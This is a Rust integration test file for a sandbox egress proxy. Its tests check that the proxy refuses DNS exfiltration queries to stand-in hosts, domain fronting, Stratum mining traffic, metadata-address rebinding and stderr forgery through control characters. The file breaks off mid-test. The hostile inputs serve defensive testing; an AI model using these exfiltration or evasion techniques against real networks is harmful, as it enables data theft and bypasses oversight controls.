//! The egress proxy, end to end: real tools in real sandboxes (curl, git,
//! pip, ssh, python) talking through corral's proxy to upstream servers on
//! the host's 127.0.0.1, reached by names pinned with `--resolve`.
//!
//! Hard rule: nothing leaves the machine. Every upstream is on loopback;
//! the only other destination is TEST-NET-1 (192.0.2.1), from inside the
//! sandbox, which has no route there.

mod common;
use common::upstream;
use common::*;
use serde_json::Value;
use std::path::{Path, PathBuf};

/// `--allow-net NAME:PORT --resolve NAME:PORT:127.0.0.1` for each name.
fn pinned(names: &[&str], port: u16) -> Vec<String> {
    let mut v = Vec::new();
    for name in names {
        v.push("--allow-net".into());
        v.push(format!("{name}:{port}"));
        v.push("--resolve".into());
        v.push(format!("{name}:{port}:127.0.0.1"));
    }
    v
}

fn strs(v: &[String]) -> Vec<&str> {
    v.iter().map(String::as_str).collect()
}

/// A net-log path for this environment (outside the sandbox's view is
/// fine: the supervisor writes it).
fn net_log(env: &Env) -> PathBuf {
    env.scratch("log").join("net.jsonl")
}

/// The one event for `host` of `kind`, failing with all events shown.
#[track_caller]
fn event_for<'a>(evs: &'a [Value], kind: &str, host: &str) -> &'a Value {
    let found: Vec<&Value> = evs
        .iter()
        .filter(|e| e["kind"] == kind && e["host"] == host)
        .collect();
    assert!(
        !found.is_empty(),
        "no {kind} event for {host:?}; events: {}",
        serde_json::to_string_pretty(evs).unwrap_or_default()
    );
    found[0]
}

/// Runs `corral run -q FLAGS --net-log LOG -- sh -c SCRIPT`.
fn sh_logged(env: &Env, flags: &[String], script: &str) -> (Out, Vec<Value>) {
    let log = net_log(env);
    let _ = std::fs::remove_file(&log);
    let mut args: Vec<String> = vec!["run".into(), "-q".into(), "--net-log".into()];
    args.push(log.display().to_string());
    args.extend(flags.iter().cloned());
    args.extend(["--".into(), "sh".into(), "-c".into(), script.into()]);
    let out = env.run(&strs(&args));
    (out, json_lines(&log))
}

#[test]
fn curl_https_through_connect() {
    for_each_identity("curl_https_through_connect", |env| {
        let dir = env.scratch("tls");
        let (cert, key) = upstream::certificate(&dir, "secure.test");
        let server = upstream::https(&dir, &cert, &key);
        let flags = pinned(&["secure.test"], server.port);
        let script = format!(
            "curl -sS --cacert {} https://secure.test:{}/",
            cert.display(),
            server.port
        );
        let (out, evs) = sh_logged(env, &flags, &script);
        out.code(0).stdout_has("secret-ok");
        let ev = event_for(&evs, "net.connect", "secure.test");
        assert_eq!(ev["decision"], "allow", "{ev}");
        assert_eq!(ev["via"], "http-connect", "{ev}");
        assert_eq!(ev["protocol"], "tls", "{ev}");
        assert_eq!(ev["detail"], "secure.test", "{ev}");
        assert_eq!(ev["rule"], format!("secure.test:{}", server.port), "{ev}");
        assert_eq!(ev["upstream"], format!("127.0.0.1:{}", server.port), "{ev}");
        assert!(ev["bytes_up"].as_u64().unwrap_or(0) > 100, "{ev}");
        assert!(ev["bytes_down"].as_u64().unwrap_or(0) > 100, "{ev}");
        assert!(ev["duration_ms"].as_f64().is_some(), "{ev}");
    });
}

#[test]
fn denied_host_explains_itself_to_tool_and_user() {
    for_each_identity("denied_host_explains_itself_to_tool_and_user", |env| {
        let web = upstream::http();
        let flags = pinned(&["web.test"], web.port);
        // Plain HTTP: the 403 body carries the reason to the tool.
        let (out, evs) = sh_logged(
            env,
            &flags,
            "curl -sS -w '\\nstatus %{http_code}\\n' http://evil.test:22/; \
             curl -sS https://evil.test/ 2>&1; echo curl-exit $?",
        );
        out.code(0)
            .stdout_has("corral: denied HTTP request to evil.test:22 - no rule allows it (allowed: web.test:")
            .stdout_has("status 403")
            .stdout_has("curl-exit 56")
            .stderr_has("corral: denied CONNECT evil.test:443 - no rule allows it (allowed: web.test:");
        let ev = event_for(&evs, "net.connect", "evil.test");
        assert_eq!(ev["decision"], "deny", "{ev}");
        assert_eq!(web.connections(), 0, "nothing may reach any upstream");
    });
}

#[test]
fn wildcard_matches_subdomains_only() {
    as_self("wildcard_matches_subdomains_only", |env| {
        let web = upstream::http();
        let p = web.port;
        let mut flags = vec!["--allow-net".to_string(), format!("*.wild.test:{p}")];
        for name in ["a.wild.test", "b.c.wild.test", "wild.test", "badwild.test"] {
            flags.push("--resolve".into());
            flags.push(format!("{name}:{p}:127.0.0.1"));
        }
        let script = format!(
            "for h in a.wild.test b.c.wild.test wild.test badwild.test; do \
               echo $h $(curl -s -o /dev/null -w '%{{http_code}}' http://$h:{p}/); done"
        );
        let (out, _) = sh_logged(env, &flags, &script);
        out.code(0)
            .stdout_has("a.wild.test 200")
            .stdout_has("b.c.wild.test 200")
            .stdout_has("\nwild.test 403")
            .stdout_has("badwild.test 403");
        assert_eq!(web.connections(), 2);
    });
}

#[test]
fn deny_wins_and_gives_its_reason() {
    for_each_identity("deny_wins_and_gives_its_reason", |env| {
        let web = upstream::http();
        let p = web.port;
        let policy = env.write(
            "policy.toml",
            &format!(
                "[network]\nallow = [\"*.corp.test:{p}\"]\n\
                 deny = [{{ host = \"vault.corp.test\", reason = \"secrets stay home\" }}]\n\
                 resolve = [\"vault.corp.test:{p}:127.0.0.1\", \"docs.corp.test:{p}:127.0.0.1\"]\n"
            ),
        );
        let flags = vec!["--policy".to_string(), policy.display().to_string()];
        let script =
            format!("curl -sS http://docs.corp.test:{p}/; curl -sS http://vault.corp.test:{p}/");
        let (out, evs) = sh_logged(env, &flags, &script);
        out.code(0)
            .stdout_has("hello from upstream")
            .stdout_has("secrets stay home (deny rule \"vault.corp.test\")");
        let ev = event_for(&evs, "net.connect", "vault.corp.test");
        assert_eq!(ev["decision"], "deny", "{ev}");
        assert_eq!(ev["rule"], "vault.corp.test", "{ev}");
        assert_eq!(web.connections(), 1);
    });
}

/// Python inside the sandbox: CONNECT through the proxy, then TLS with a
/// chosen server name. Prints what happened.
const TLS_CLIENT: &str = r#"
import socket, ssl, sys
host, port, sni = sys.argv[1], int(sys.argv[2]), sys.argv[3]
s = socket.create_connection(("127.0.0.1", 3128), timeout=3)
s.sendall(f"CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n".encode())
print("proxy:", s.recv(4096).split(b"\r\n")[0].decode())
ctx = ssl.create_default_context()
ctx.check_hostname = False
ctx.verify_mode = ssl.CERT_NONE
try:
    ctx.wrap_socket(s, server_hostname=sni)
    print("handshake done")
except (OSError, ssl.SSLError) as e:
    print("tls failed:", type(e).__name__)
"#;

#[test]
fn sni_must_match_the_connect_host() {
    for_each_identity("sni_must_match_the_connect_host", |env| {
        let rec = upstream::recorder();
        let p = rec.port;
        let client = env.write("tls_client.py", TLS_CLIENT);
        let flags = pinned(&["front.test"], p);
        let script = format!("python3 {} front.test {p} hidden.test", client.display());
        let (out, evs) = sh_logged(env, &flags, &script);
        out.code(0)
            .stdout_has("proxy: HTTP/1.1 200")
            .stdout_has("tls failed")
            .stderr_has("names \"hidden.test\", not \"front.test\" as requested (domain fronting)");
        let ev = event_for(&evs, "net.connect", "front.test");
        assert_eq!(ev["decision"], "deny", "{ev}");
        assert_eq!(ev["protocol"], "tls", "{ev}");
        assert_eq!(ev["detail"], "hidden.test", "{ev}");
        std::thread::sleep(std::time::Duration::from_millis(200));
        assert!(
            rec.received().iter().all(|r| r.is_empty()),
            "the ClientHello must not reach the upstream: {:?}",
            rec.received()
        );
        // The control: the right name passes and reaches the upstream.
        let script = format!("python3 {} front.test {p} front.test", client.display());
        let (_, evs) = sh_logged(env, &flags, &script);
        let ev = event_for(&evs, "net.connect", "front.test");
        assert_eq!(ev["decision"], "allow", "{ev}");
        assert!(ev["bytes_up"].as_u64().unwrap_or(0) > 100, "{ev}");
        // The client waited for the server's reply, long enough to be
        // found (the pid is telemetry, looked up while the attempt runs).
        assert!(ev["pid"].as_u64().is_some(), "the client's pid: {ev}");
    });
}

/// An ssh ProxyCommand: CONNECT through corral's proxy, then relay.
const SSH_PROXY: &str = r#"
import socket, sys, threading, os
s = socket.create_connection(("127.0.0.1", 3128))
s.sendall(f"CONNECT {sys.argv[1]}:{sys.argv[2]} HTTP/1.1\r\n\r\n".encode())
head = b""
while b"\r\n\r\n" not in head:
    chunk = s.recv(1)
    if not chunk:
        sys.exit(1)
    head += chunk
if b" 200 " not in head.split(b"\r\n")[0]:
    sys.stderr.write(head.decode()); sys.exit(1)
def up():
    while True:
        d = os.read(0, 65536)
        if not d:
            s.shutdown(socket.SHUT_WR); return
        s.sendall(d)
threading.Thread(target=up, daemon=True).start()
while True:
    d = s.recv(65536)
    if not d:
        break
    os.write(1, d)
"#;

#[test]
fn ssh_needs_a_protocols_rule() {
    for_each_identity("ssh_needs_a_protocols_rule", |env| {
        let srv = upstream::ssh_banner();
        let p = srv.port;
        let helper = env.write("ssh_proxy.py", SSH_PROXY);
        let script = format!(
            "ssh -F /dev/null -o BatchMode=yes -o StrictHostKeyChecking=no \
             -o UserKnownHostsFile=/dev/null -o ConnectTimeout=5 \
             -o ProxyCommand='python3 {} %h %p' -p {p} git@git.test true; echo ssh-exit $?",
            helper.display()
        );
        // Default protocols (tls, http): the client's banner is refused.
        let flags = pinned(&["git.test"], p);
        let (out, evs) = sh_logged(env, &flags, &script);
        out.code(0)
            .stdout_has("ssh-exit 255")
            .stderr_has("denied CONNECT git.test:");
        let ev = event_for(&evs, "net.connect", "git.test");
        assert_eq!(ev["decision"], "deny", "{ev}");
        assert_eq!(ev["protocol"], "ssh", "{ev}");
        assert!(
            ev["reason"]
                .as_str()
                .unwrap_or("")
                .contains("SSH is not allowed here"),
            "{ev}"
        );
        assert!(
            srv.received().iter().all(|r| !r.contains("SSH-2.0")),
            "the client's banner must not reach the server: {:?}",
            srv.received()
        );
        // With protocols = ["ssh"], the banner exchange happens.
        let policy = env.write(
            "ssh.toml",
            &format!(
                "[network]\nresolve = [\"git.test:{p}:127.0.0.1\"]\n\
                 [network.rules.\"git.test:{p}\"]\nprotocols = [\"ssh\"]\n"
            ),
        );
        let flags = vec!["--policy".to_string(), policy.display().to_string()];
        let (_, evs) = sh_logged(env, &flags, &script);
        let ev = event_for(&evs, "net.connect", "git.test");
        assert_eq!(ev["decision"], "allow", "{ev}");
        assert_eq!(ev["protocol"], "ssh", "{ev}");
        assert!(
            ev["detail"]
                .as_str()
                .unwrap_or("")
                .starts_with("SSH-2.0-OpenSSH"),
            "{ev}"
        );
        assert!(
            srv.received().iter().any(|r| r.contains("SSH-2.0-OpenSSH")),
            "{:?}",
            srv.received()
        );
    });
}

const STRATUM: &str = r#"
import socket, sys
s = socket.create_connection(("127.0.0.1", 3128), timeout=3)
s.sendall(f"CONNECT pool.test:{sys.argv[1]} HTTP/1.1\r\n\r\n".encode())
print("proxy:", s.recv(4096).split(b"\r\n")[0].decode())
s.sendall(b'{"id": 1, "method": "mining.subscribe", "params": ["cpuminer/2.5.1"]}\n')
print("reply:", s.recv(4096))
"#;

#[test]
fn stratum_is_refused_even_under_an_any_rule() {
    for_each_identity("stratum_is_refused_even_under_an_any_rule", |env| {
        let rec = upstream::recorder();
        let p = rec.port;
        let client = env.write("stratum.py", STRATUM);
        let policy = env.write(
            "pool.toml",
            &format!(
                "[network]\nresolve = [\"pool.test:{p}:127.0.0.1\"]\n\
                 [network.rules.\"pool.test:{p}\"]\nprotocols = [\"any\"]\n\
                 # The proxy's own refusal is under test: the detector only alerts.\n\
                 [detect.detectors.\"miner\"]\nresponse = \"alert\"\n"
            ),
        );
        let flags = vec!["--policy".to_string(), policy.display().to_string()];
        let (out, evs) = sh_logged(env, &flags, &format!("python3 -u {} {p}", client.display()));
        out.stdout_has("proxy: HTTP/1.1 200")
            .stderr_has("corral: alert: miner.stratum")
            .stdout_has("reply: b''")
            .stderr_has("cryptocurrency mining protocol (Stratum \"mining.subscribe\", agent \"cpuminer/2.5.1\") is never allowed");
        let ev = event_for(&evs, "net.connect", "pool.test");
        assert_eq!(ev["decision"], "deny", "{ev}");
        assert_eq!(ev["severity"], "critical", "{ev}");
        assert_eq!(ev["protocol"], "stratum", "{ev}");
        std::thread::sleep(std::time::Duration::from_millis(200));
        assert!(
            rec.received().iter().all(|r| r.is_empty()),
            "{:?}",
            rec.received()
        );
    });
}

#[test]
fn names_resolving_to_local_addresses_are_refused() {
    if !i_am_root() {
        return skip(
            "names_resolving_to_local_addresses_are_refused",
            "needs root to give the test its own /etc/hosts in a mount namespace",
        );
    }
    for_each_identity("names_resolving_to_local_addresses_are_refused", |env| {
        let web = upstream::http();
        let p = web.port;
        let hosts = env.scratch("etc").join("hosts");
        std::fs::write(
            &hosts,
            "127.0.0.1 localhost\n127.0.0.1 rebind.test\n169.254.169.254 metadata.test\n",
        )
        .expect("write hosts");
        let log = net_log(env);
        let mut args: Vec<String> = vec!["run".into(), "-q".into(), "--net-log".into()];
        args.push(log.display().to_string());
        for name in ["rebind.test", "metadata.test"] {
            args.push("--allow-net".into());
            args.push(format!("{name}:{p}"));
        }
        args.extend(["--".into(), "sh".into(), "-c".into()]);
        args.push(format!(
            "curl -sS http://rebind.test:{p}/; curl -sS http://metadata.test:{p}/"
        ));
        // The supervisor resolves with the host's resolver: give it a
        // hosts file of the test's own, in a private mount namespace.
        let argv = env.argv(&strs(&args));
        env.fix_ownership();
        let mut cmd = std::process::Command::new("unshare");
        cmd.args([
            "-m",
            "sh",
            "-c",
            "mount --bind \"$0\" /etc/hosts && exec \"$@\"",
        ])
        .arg(&hosts)
        .args(&argv)
        .current_dir(&env.ws)
        .stdin(std::process::Stdio::null())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped());
        let out = wait_with_deadline(
            cmd.spawn().expect("spawn"),
            "rebinding".into(),
            RUN_DEADLINE,
        );
        out.code(0)
            .stdout_has("rebind.test resolves to 127.0.0.1 (loopback)")
            .stdout_has("metadata.test resolves to 169.254.169.254 (link-local");
        let evs = json_lines(&log);
        for host in ["rebind.test", "metadata.test"] {
            let ev = event_for(&evs, "net.connect", host);
            assert_eq!(ev["decision"], "deny", "{ev}");
        }
        assert_eq!(web.connections(), 0);
    });
}

#[test]
fn ipv6_literal_needs_an_ip_rule() {
    as_self("ipv6_literal_needs_an_ip_rule", |env| {
        let Ok(listener) = std::net::TcpListener::bind("[::1]:0") else {
            return skip("ipv6_literal_needs_an_ip_rule", "no IPv6 loopback here");
        };
        let p = listener.local_addr().expect("addr").port();
        std::thread::spawn(move || {
            use std::io::{Read, Write};
            for s in listener.incoming().flatten() {
                let mut s = s;
                let mut buf = [0u8; 4096];
                let _ = s.read(&mut buf);
                let _ = s.write_all(
                    b"HTTP/1.1 200 OK\r\nContent-Length: 8\r\nConnection: close\r\n\r\nv6-here\n",
                );
            }
        });
        let curl = format!("curl -sS -g --noproxy '' -x http://127.0.0.1:3128 http://[::1]:{p}/");
        // A name rule (even `*`) never matches an address.
        let flags = vec!["--allow-net".to_string(), "*:*".to_string()];
        let (out, _) = sh_logged(env, &flags, &curl);
        out.stdout_has("an address needs an IP or CIDR rule");
        let flags = vec!["--allow-net".to_string(), format!("[::1]:{p}")];
        let (out, evs) = sh_logged(env, &flags, &curl);
        out.code(0).stdout_has("v6-here");
        let ev = event_for(&evs, "net.connect", "::1");
        assert_eq!(ev["decision"], "allow", "{ev}");
    });
}

#[test]
fn socks5_with_remote_dns() {
    for_each_identity("socks5_with_remote_dns", |env| {
        let web = upstream::http();
        let p = web.port;
        let flags = pinned(&["web.test"], p);
        let script = format!(
            "curl -sS --noproxy '' -x socks5h://127.0.0.1:1080 http://web.test:{p}/; \
             curl -sS --noproxy '' -x socks5h://127.0.0.1:1080 http://evil.test:{p}/; echo curl-exit $?"
        );
        let (out, evs) = sh_logged(env, &flags, &script);
        out.code(0)
            .stdout_has("hello from upstream")
            .stdout_has("curl-exit 97")
            .stderr_has(&format!(
                "denied SOCKS5 connection to evil.test:{p} - no rule allows it"
            ));
        let ev = event_for(&evs, "net.connect", "web.test");
        assert_eq!(ev["via"], "socks5", "{ev}");
        assert_eq!(ev["decision"], "allow", "{ev}");
        assert_eq!(ev["protocol"], "http", "{ev}");
        assert!(
            web.received()
                .iter()
                .any(|r| r.contains(&format!("Host: web.test:{p}"))),
            "{:?}",
            web.received()
        );
    });
}

#[test]
fn dns_queries_are_answered_by_policy_and_logged() {
    for_each_identity("dns_queries_are_answered_by_policy_and_logged", |env| {
        let flags = pinned(&["web.test"], 8080);
        let code = r#"
import socket
for name in ["web.test", "c2VjcmV0.exfil.test"]:
    try:
        print(name, sorted({a[4][0] for a in socket.getaddrinfo(name, 80, socket.AF_INET)}))
    except socket.gaierror as e:
        print(name, "error", e.args[0])
"#;
        let script = format!("cat /etc/resolv.conf; python3 -c '{code}'");
        let (out, evs) = sh_logged(env, &flags, &script);
        out.code(0)
            .stdout_has("nameserver 127.0.0.1")
            .stdout_has("web.test ['127.0.0.1']")
            .stdout_has("c2VjcmV0.exfil.test error -2");
        let ok = event_for(&evs, "dns.query", "web.test");
        assert_eq!(ok["decision"], "allow", "{ok}");
        assert_eq!(ok["qtype"], "A", "{ok}");
        let bad = event_for(&evs, "dns.query", "c2vjcmv0.exfil.test");
        assert_eq!(bad["decision"], "deny", "{bad}");
        assert_eq!(bad["via"], "dns-udp", "{bad}");
    });
}

#[test]
fn python_urllib_and_pip_work_through_the_proxy() {
    for_each_identity("python_urllib_and_pip_work_through_the_proxy", |env| {
        // A package index with one tiny wheel.
        let index = env.scratch("index");
        let made = std::process::Command::new("python3")
            .arg("-c")
            .arg(
                r#"
import zipfile, os
os.makedirs("simple/tinypkg", exist_ok=True)
whl = "tinypkg-1.0-py3-none-any.whl"
with zipfile.ZipFile(whl, "w") as z:
    z.writestr("tinypkg/__init__.py", "GREETING = 'tiny package imported'\n")
    z.writestr("tinypkg-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: tinypkg\nVersion: 1.0\n")
    z.writestr("tinypkg-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
    z.writestr("tinypkg-1.0.dist-info/RECORD", "")
open("simple/tinypkg/index.html", "w").write(f'<a href="../../{whl}">{whl}</a>\n')
"#,
            )
            .current_dir(&index)
            .status()
            .expect("build index");
        assert!(made.success());
        let server = upstream::static_files(&index);
        let p = server.port;
        let flags = pinned(&["pypi.test"], p);
        let script = format!(
            "python3 -c 'import urllib.request; print(urllib.request.urlopen(\"http://pypi.test:{p}/simple/tinypkg/\").read().decode())' && \
             python3 -m pip install -q --no-cache-dir --disable-pip-version-check \
               --index-url http://pypi.test:{p}/simple --trusted-host pypi.test \
               --target ./site tinypkg && \
             PYTHONPATH=./site python3 -c 'import tinypkg; print(tinypkg.GREETING)'"
        );
        let (out, evs) = sh_logged(env, &flags, &script);
        out.code(0)
            .stdout_has("tinypkg-1.0-py3-none-any.whl")
            .stdout_has("tiny package imported");
        let ev = event_for(&evs, "net.connect", "pypi.test");
        assert_eq!(ev["via"], "http-forward", "{ev}");
        assert_eq!(ev["decision"], "allow", "{ev}");
    });
}

#[test]
fn git_clone_over_smart_http() {
    for_each_identity("git_clone_over_smart_http", |env| {
        // Root's own directory: git http-backend, run by the test as root,
        // refuses repositories owned by another user.
        let tmp = TempDir::new_in("/tmp", "corral-git-");
        let root = tmp.path().to_path_buf();
        let git = |args: &[&str], dir: &Path| {
            let out = std::process::Command::new("git")
                .args([
                    "-c",
                    "user.name=t",
                    "-c",
                    "user.email=t@t",
                    "-c",
                    "init.defaultBranch=main",
                ])
                .args(args)
                .current_dir(dir)
                .output()
                .expect("git");
            assert!(
                out.status.success(),
                "git {args:?}: {}",
                String::from_utf8_lossy(&out.stderr)
            );
        };
        let src = root.join("src");
        std::fs::create_dir_all(&src).expect("mkdir");
        git(&["init", "-q"], &src);
        std::fs::write(src.join("README"), "cloned through corral\n").expect("write");
        git(&["add", "README"], &src);
        git(&["commit", "-q", "-m", "first"], &src);
        git(&["clone", "-q", "--bare", "src", "repo.git"], &root);
        let server = upstream::git_http(&root);
        let p = server.port;
        let flags = pinned(&["git.test"], p);
        let script = format!("git clone -q http://git.test:{p}/repo.git clone && cat clone/README");
        let (out, evs) = sh_logged(env, &flags, &script);
        out.code(0).stdout_has("cloned through corral");
        let ev = event_for(&evs, "net.connect", "git.test");
        assert_eq!(ev["decision"], "allow", "{ev}");
    });
}

#[test]
fn direct_connections_still_fail_at_once_with_a_network_policy() {
    for_each_identity(
        "direct_connections_still_fail_at_once_with_a_network_policy",
        |env| {
            let flags = pinned(&["web.test"], 8080);
            let code = r#"
import socket, errno
s = socket.socket()
s.settimeout(5)
try:
    s.connect(("192.0.2.1", 443))
    print("CONNECTED")
except socket.timeout:
    print("TIMEOUT")
except OSError as e:
    print("errno", errno.errorcode.get(e.errno))
"#;
            let script = format!("python3 -c '{code}'");
            let (out, _) = sh_logged(env, &flags, &script);
            out.code(0).stdout_has("errno ENETUNREACH");
        },
    );
}

#[test]
fn header_names_the_proxy() {
    as_self("header_names_the_proxy", |env| {
        env.run(&["run", "--allow-net", "web.test:443", "--", "true"])
            .code(0)
            .stderr_has("| net proxy: 1 allow, 0 deny");
        env.run(&["run", "--", "true"])
            .code(0)
            .stderr_has("| net none");
    });
}

#[test]
fn the_proxy_is_not_reachable_without_a_network_policy() {
    as_self(
        "the_proxy_is_not_reachable_without_a_network_policy",
        |env| {
            env.sh(
                &[],
                "env | grep -i _proxy; curl -sS http://127.0.0.1:3128/ 2>&1; echo exit $?",
            )
            .code(0)
            .stdout_has("exit 7")
            .lacks("HTTP_PROXY");
        },
    );
}

#[test]
fn deny_net_flag_overrides_an_allow() {
    as_self("deny_net_flag_overrides_an_allow", |env| {
        let web = upstream::http();
        let p = web.port;
        let mut flags = pinned(&["web.test"], p);
        flags.extend(["--deny-net".to_string(), "web.test".to_string()]);
        let (out, _) = sh_logged(env, &flags, &format!("curl -sS http://web.test:{p}/"));
        out.code(0)
            .stdout_has("deny rule \"web.test\" refuses it")
            .lacks("hello from upstream");
        assert_eq!(web.connections(), 0);
    });
}

/// A raw DNS query over TCP or UDP, printing rcode and answer count.
const DNS_CLIENT: &str = r#"
import socket, struct, sys
name, qtype, transport = sys.argv[1], int(sys.argv[2]), sys.argv[3]
q = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
q += b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0"
q += struct.pack(">HH", qtype, 1)
if transport == "tcp":
    s = socket.create_connection(("127.0.0.1", 53), timeout=3)
    s.sendall(struct.pack(">H", len(q)) + q)
    n = struct.unpack(">H", s.recv(2))[0]
    r = b""
    while len(r) < n:
        r += s.recv(n - len(r))
else:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(3)
    s.sendto(q, ("127.0.0.1", 53))
    r = s.recv(4096)
ident, flags, qd, an = struct.unpack(">HHHH", r[:8])
print(f"{transport} {name} type{qtype}: id={ident:#x} rcode={flags & 15} answers={an}")
"#;

#[test]
fn dns_over_tcp_and_non_address_types() {
    as_self("dns_over_tcp_and_non_address_types", |env| {
        let client = env.write("dns_client.py", DNS_CLIENT);
        let c = client.display();
        let flags = pinned(&["web.test"], 8080);
        let script = format!(
            "python3 {c} web.test 1 tcp; python3 {c} web.test 16 udp; python3 {c} leak.evil.test 16 udp"
        );
        let (out, evs) = sh_logged(env, &flags, &script);
        out.code(0)
            .stdout_has("tcp web.test type1: id=0x1234 rcode=0 answers=1")
            // TXT for an allowed name: an empty answer, never forwarded.
            .stdout_has("udp web.test type16: id=0x1234 rcode=0 answers=0")
            .stdout_has("udp leak.evil.test type16: id=0x1234 rcode=3 answers=0");
        let tcp = evs
            .iter()
            .find(|e| e["kind"] == "dns.query" && e["via"] == "dns-tcp")
            .unwrap_or_else(|| panic!("no dns-tcp event: {evs:?}"));
        assert_eq!(tcp["host"], "web.test", "{tcp}");
        let txt = event_for(&evs, "dns.query", "leak.evil.test");
        assert_eq!(txt["qtype"], "TXT", "{txt}");
        assert_eq!(txt["decision"], "deny", "{txt}");
    });
}

#[test]
fn server_first_protocols_flow_under_an_any_rule() {
    as_self("server_first_protocols_flow_under_an_any_rule", |env| {
        let srv = upstream::ssh_banner();
        let p = srv.port;
        // The client only listens: it says nothing until it has the banner.
        let code = format!(
            r#"
import socket
s = socket.create_connection(("127.0.0.1", 3128), timeout=5)
s.sendall(b"CONNECT talk.test:{p} HTTP/1.1\r\n\r\n")
data = b""
while b"\r\n\r\n" not in data:
    data += s.recv(4096)
head, _, rest = data.partition(b"\r\n\r\n")
print("proxy:", head.split(b"\r\n")[0].decode())
while b"\n" not in rest:
    rest += s.recv(4096)
print("server said:", rest)
s.sendall(b"hello after the banner\n")
"#
        );
        let client = env.write("listener.py", &code);
        let policy = env.write(
            "any.toml",
            &format!(
                "[network]\nresolve = [\"talk.test:{p}:127.0.0.1\"]\n\
                 [network.rules.\"talk.test:{p}\"]\nprotocols = [\"any\"]\n"
            ),
        );
        let flags = vec!["--policy".to_string(), policy.display().to_string()];
        let (out, evs) = sh_logged(env, &flags, &format!("python3 {}", client.display()));
        out.code(0)
            .stdout_has("server said: b'SSH-2.0-CorralTestServer\\r\\n'");
        let ev = event_for(&evs, "net.connect", "talk.test");
        assert_eq!(ev["decision"], "allow", "{ev}");
    });
}

#[test]
fn socks5_udp_associate_is_refused_and_reported() {
    as_self("socks5_udp_associate_is_refused_and_reported", |env| {
        let code = r#"
import socket
s = socket.create_connection(("127.0.0.1", 1080), timeout=3)
s.sendall(b"\x05\x01\x00")
print("method:", s.recv(2))
s.sendall(b"\x05\x03\x00\x01\xc0\x00\x02\x01\x00\x35")
print("reply:", s.recv(10)[:2])
"#;
        let client = env.write("udp_assoc.py", code);
        let flags = pinned(&["web.test"], 8080);
        let (out, evs) = sh_logged(env, &flags, &format!("python3 {}", client.display()));
        out.code(0)
            .stdout_has("method: b'\\x05\\x00'")
            .stdout_has("reply: b'\\x05\\x07'")
            .stderr_has("SOCKS5 UDP ASSOCIATE (UDP traffic) is not supported; only CONNECT is");
        let ev = event_for(&evs, "net.connect", "192.0.2.1");
        assert_eq!(ev["decision"], "deny", "{ev}");
    });
}

#[test]
fn http_host_inside_a_tunnel_must_match() {
    as_self("http_host_inside_a_tunnel_must_match", |env| {
        let web = upstream::http();
        let p = web.port;
        let flags = pinned(&["web.test"], p);
        let tunnel = "curl -sS --proxytunnel -x http://127.0.0.1:3128";
        let script = format!(
            "{tunnel} http://web.test:{p}/; {tunnel} -H 'Host: intranet.test' http://web.test:{p}/; echo curl-exit $?"
        );
        let (out, evs) = sh_logged(env, &flags, &script);
        out.code(0)
            .stdout_has("hello from upstream")
            .stdout_has("curl-exit 52")
            .stderr_has(
                "the HTTP request has Host \"intranet.test\", not \"web.test\" as requested",
            );
        assert!(
            evs.iter().any(|e| e["host"] == "web.test"
                && e["via"] == "http-connect"
                && e["decision"] == "allow"),
            "{evs:?}"
        );
        // The refused tunnel was connected (the proxy answers 200 only
        // once the upstream accepts) but carried nothing.
        let requests: Vec<String> = web
            .received()
            .into_iter()
            .filter(|r| !r.is_empty())
            .collect();
        assert_eq!(requests.len(), 1, "{requests:?}");
        assert!(!requests[0].contains("intranet.test"), "{requests:?}");
    });
}

#[test]
fn this_host_is_never_a_destination() {
    as_self("this_host_is_never_a_destination", |env| {
        let web = upstream::http();
        let p = web.port;
        // Even a rule for every address does not reach 0.0.0.0 (the
        // proxy's own machine) nor, through a name, loopback.
        let flags = vec!["--allow-net".to_string(), "0.0.0.0/0:*".to_string()];
        let (out, _) = sh_logged(
            env,
            &flags,
            &format!("curl -sS http://0.0.0.0:{p}/; curl -sS -x socks5h://127.0.0.1:1080 http://0.0.0.0:{p}/ 2>&1; true"),
        );
        out.code(0)
            .stdout_has("0.0.0.0 is \"this host\" (0.0.0.0/8), which reaches corral's own machine; it is never allowed")
            .lacks("hello from upstream");
        assert_eq!(web.connections(), 0);
    });
}

#[test]
fn names_chosen_in_the_sandbox_cannot_forge_stderr_lines() {
    as_self(
        "names_chosen_in_the_sandbox_cannot_forge_stderr_lines",
        |env| {
            let code = r#"
import socket
name = b"x\r\x1b[2Kcorral: allowed CONNECT api.example:443\nforged"
s = socket.create_connection(("127.0.0.1", 1080), timeout=3)
s.sendall(b"\x05\x01\x00")
s.recv(2)
s.sendall(b"\x05\x01\x00\x03" + bytes([len(name)]) + name + b"\x01\xbb")
print("reply:", s.recv(10)[:2])
"#;
            let client = env.write("forge.py", code);
            let flags = pinned(&["web.test"], 8080);
            let (out, _) = sh_logged(env, &flags, &format!("python3 {}", client.display()));
            out.code(0).stdout_has("reply: b'\\x05\\x02'");
            assert!(
                !out.stderr.contains('\u{1b}') && !out.stderr.contains('\r'),
                "control characters reached corral's stderr: {:?}",
                out.stderr
            );
            assert!(
                !out.stderr
                    .lines()
                    .any(|l| l.starts_with("forged") || l.starts_with("corral: allowed")),
                "{:?}",
                out.stderr
            );
        },
    );
}

#[test]
fn a_tunnel_open_when_the_sandbox_ends_is_reported_with_its_bytes() {
    as_self(
        "a_tunnel_open_when_the_sandbox_ends_is_reported_with_its_bytes",
        |env| {
            let hold = upstream::holder();
            let p = hold.port;
            let policy = env.write(
                "hold.toml",
                &format!(
                    "[network]\nresolve = [\"hold.test:{p}:127.0.0.1\"]\n\
                 [network.rules.\"hold.test:{p}\"]\nprotocols = [\"any\"]\n"
                ),
            );
            let code = format!(
                r#"
import socket, time
s = socket.create_connection(("127.0.0.1", 3128), timeout=3)
s.sendall(b"CONNECT hold.test:{p} HTTP/1.1\r\n\r\n")
s.recv(4096)
s.sendall(b"u" * 200000)
time.sleep(0.5)
print("leaving with the tunnel open")
"#
            );
            let client = env.write("upload.py", &code);
            let flags = vec!["--policy".to_string(), policy.display().to_string()];
            let (out, evs) = sh_logged(env, &flags, &format!("python3 {}", client.display()));
            out.code(0).stdout_has("leaving with the tunnel open");
